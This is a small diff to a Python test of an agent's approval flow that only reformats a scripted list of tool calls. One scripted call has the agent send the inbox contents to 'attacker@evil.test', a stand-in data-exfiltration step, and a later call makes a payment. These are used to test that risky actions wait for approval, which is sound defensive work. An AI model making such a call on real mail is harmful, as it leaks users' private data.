@@ -71,7 +71,10 @@ def test_asks_interrupt_the_run_and_run_once_approved(tmp_path: Path) -> None:
     model = ScriptedModel(
         [
             [call("read_inbox", {}, call_id="c1")],
-            [call("send_email", {"to": "attacker@evil.test", "body": "inbox"}, call_id="c2"), call("write_note", '{"text": ', call_id="c3")],
+            [
+                call("send_email", {"to": "attacker@evil.test", "body": "inbox"}, call_id="c2"),
+                call("write_note", '{"text": ', call_id="c3"),
+            ],
             [call("write_note", {"text": "lunch"}, call_id="c4"), call("pay", {"to": "alice@example.com", "amount": 20}, call_id="c5")],
             [assistant_message("Done.")],
         ]
